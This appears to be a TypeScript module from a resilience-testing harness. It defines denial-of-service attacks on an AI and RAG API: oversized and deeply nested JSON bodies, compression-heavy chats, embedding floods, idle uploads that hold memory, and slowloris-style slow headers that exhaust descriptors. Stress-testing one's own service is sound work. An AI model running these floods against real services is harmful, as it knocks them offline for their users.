import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { type Attack, DESCRIPTORS, type Field, flood } from "../attack.ts";

const keys = (count: number, value: unknown) =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`k ${n}`, value]));
const chat = (fields: object) => ({ messages: [{ role: "user", content: "Say hello." }], ...fields });

/** The same JSON body again and again; `make` gives it as a value, or as text where no value nests so deep. */
function body(
  name: string,
  about: string,
  attack: { path: string; make(): object | string; lanes?: number; options?: string },
): Attack {
  return {
    name,
    about,
    async run({ member, signal }) {
      const made = attack.make();
      const text = typeof made === "string" ? made : JSON.stringify(made);
      const options = attack.options === undefined ? {} : { "x-svc-options": attack.options };
      const headers = { "content-type": "application/json", ...options };
      await flood(signal, attack.lanes ?? 4, () => member.call("POST", attack.path, { body: text, headers }));
    },
  };
}

/** Pause between two parts of a head that never ends, in ms. */
const DRIP_MS = 5_000;

/**
 * Opens connections that begin a request and never end it. `drip` is sent on as long as the connection is there. Each is opened
 * within `spreadMs` after the begin, and again within as long after it was closed.
 */
async function beginRequests(
  { url, signal }: Field,
  {
    lanes,
    headers,
    drip,
    spreadMs = 0,
  }: { lanes: number; headers(turn: number): string; drip?: string; spreadMs?: number },
): Promise<void> {
  const { hostname, port } = new URL(url);
  await flood(signal, lanes, async (turn) => {
    await delay(Math.random() * spreadMs, undefined, { signal }).catch(() => undefined); // it fails at the end alone
    if (signal.aborted) return { status: 0, text: "" };
    const socket = connect(Number(port), hostname);
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    const stop = () => socket.destroy();
    signal.addEventListener("abort", stop, { once: true });
    socket.on("error", stop);
    socket.resume();
    socket.write(`POST /rag/ingest HTTP/1.1\r\nhost: ${hostname}\r\n${headers(turn)}`);
    const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), DRIP_MS);
    await closed;
    clearInterval(dripping);
    signal.removeEventListener("abort", stop);
    return { status: 0, text: "" };
  });
}

/** Connections that take the memory for large bodies: a few large ones, and the smallest that need a place for the rest. */
const IDLE_UPLOADS = { lanes: 32, large: 12, largeBytes: 20 << 20, smallBytes: (1 << 20) + 1 };

/** Time in which the slow requests are begun, in ms: opening many connections at once would be a flood of another kind. */
const SLOW_SPREAD_MS = 10_000;

export const bodyAttacks: readonly Attack[] = [
  body("metadata-keys", "metadata of a million keys", {
    path: "/rag/ingest",
    make: () => ({ content: "x", metadata: keys(1_000_000, []) }),
  }),
  body("filter-keys", "a filter of 300,000 keys", {
    path: "/rag/query",
    make: () => ({ query: "x", filter: keys(300_000, {}) }),
  }),
  body("unknown-fields", "330,000 fields that nobody knows", { path: "/ai/chat", make: () => chat(keys(330_000, 1)) }),
  body("tool-parameters", "a tool with 330,000 parameters", {
    path: "/ai/chat",
    make: () =>
      chat({ tools: [{ type: "function", function: { name: "t", parameters: { properties: keys(330_000, 1) } } }] }),
  }),
  body("deep-json", "JSON that nests a million times", {
    path: "/rag/query",
    make: () => `{"query":"x","filter":${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}}`,
  }),
  body("large-chats", "a chat of 3 MB", {
    path: "/ai/chat",
    make: () =>
      chat({ messages: Array.from({ length: 8 }, () => ({ role: "user", content: "word. ".repeat(60_000) })) }),
  }),
  body("compression", "a chat of 3 MB that is to be compressed", {
    path: "/ai/chat",
    options: "compress=true",
    make: () =>
      chat({ messages: Array.from({ length: 8 }, () => ({ role: "user", content: "word. ".repeat(60_000) })) }),
  }),
  body("compressed-sentences", "a chat of 3 MB of different sentences that is to be compressed", {
    path: "/ai/chat",
    options: "compress=true",
    make: () => {
      const sentence = (n: number) =>
        `Nobody says why the ${n.toString(36).replace(/\d/g, "q")} pump is loud while its valve leaks slowly.\n`;
      const content = (turn: number) => Array.from({ length: 5_000 }, (_, n) => sentence(turn * 5_000 + n)).join("");
      return chat({ messages: Array.from({ length: 8 }, (_, turn) => ({ role: "user", content: content(turn) })) });
    },
  }),
  body("chats-of-a-megabyte", "chats that are just not large", {
    path: "/ai/chat",
    lanes: 8,
    make: () => chat({ messages: [1, 2, 3].map(() => ({ role: "user", content: "word. ".repeat(57_000) })) }),
  }),
  body("many-inputs", "embeddings of 2,048 inputs", {
    path: "/ai/embeddings",
    make: () => ({ input: Array.from({ length: 2_048 }, (_, n) => `${"word ".repeat(300)}${n}`) }),
  }),
  {
    name: "idle-uploads",
    about: "uploads of 1 to 20 MB that are announced and never sent, for all the memory that large bodies have",
    run: (field) =>
      beginRequests(field, {
        lanes: IDLE_UPLOADS.lanes,
        headers: (turn) => {
          const { lanes, large, largeBytes, smallBytes } = IDLE_UPLOADS;
          const length = turn % lanes < large ? largeBytes : smallBytes;
          const about = `content-type: application/json\r\ncontent-length: ${length}`;
          return `authorization: Bearer ${field.memberKey}\r\n${about}\r\n\r\n`;
        },
      }),
  },
  {
    name: "slow-headers",
    about:
      "requests whose headers never end: a line every five seconds, on more connections than the API has descriptors for",
    run: (field) =>
      beginRequests(field, {
        lanes: Math.round(1.2 * DESCRIPTORS),
        headers: () => "x-slow: 1\r\n",
        drip: "x-more: 1\r\n",
        spreadMs: SLOW_SPREAD_MS,
      }),
  },
];
